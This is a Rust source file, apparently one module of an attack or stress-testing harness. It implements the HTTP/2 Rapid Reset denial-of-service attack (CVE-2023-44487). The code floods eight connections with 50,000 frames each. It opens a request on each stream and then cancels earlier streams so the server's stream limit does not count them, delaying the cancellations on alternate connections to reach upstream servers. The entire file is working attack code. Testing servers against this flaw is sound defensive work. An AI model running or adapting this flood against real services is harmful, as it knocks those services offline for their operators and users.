//! Rapid reset (CVE-2023-44487): requests that are given up, so that the limit of open streams does not count
//! them. On every second connection a while later, when they may be on their way to an upstream.

use super::attacker::{Field, Flood};
use super::frames::{Block, Frames, Numbers, STREAMS};
use super::stage::ATTACKED;

const FLOOD: Flood = Flood { connections: 8, frames: 50_000 };

pub(crate) const REQUESTS: u32 = FLOOD.connections * STREAMS as u32;

/// Requests after which one is given up that is to be late.
const LATER: u32 = 100;

pub(crate) async fn run(field: &Field) {
    let block = Block::get(ATTACKED, "/bytes/1000");
    field
        .flood(FLOOD, move |connection| {
            let (block, mut numbers) = (block.clone(), Numbers::default());
            let later = if connection % 2 == 0 { 0 } else { 2 * LATER };
            move |frames: &mut Frames| {
                let stream = numbers.one_more();
                frames.request(stream, &block);
                if stream > later {
                    frames.cancel(stream - later);
                }
            }
        })
        .await;
}
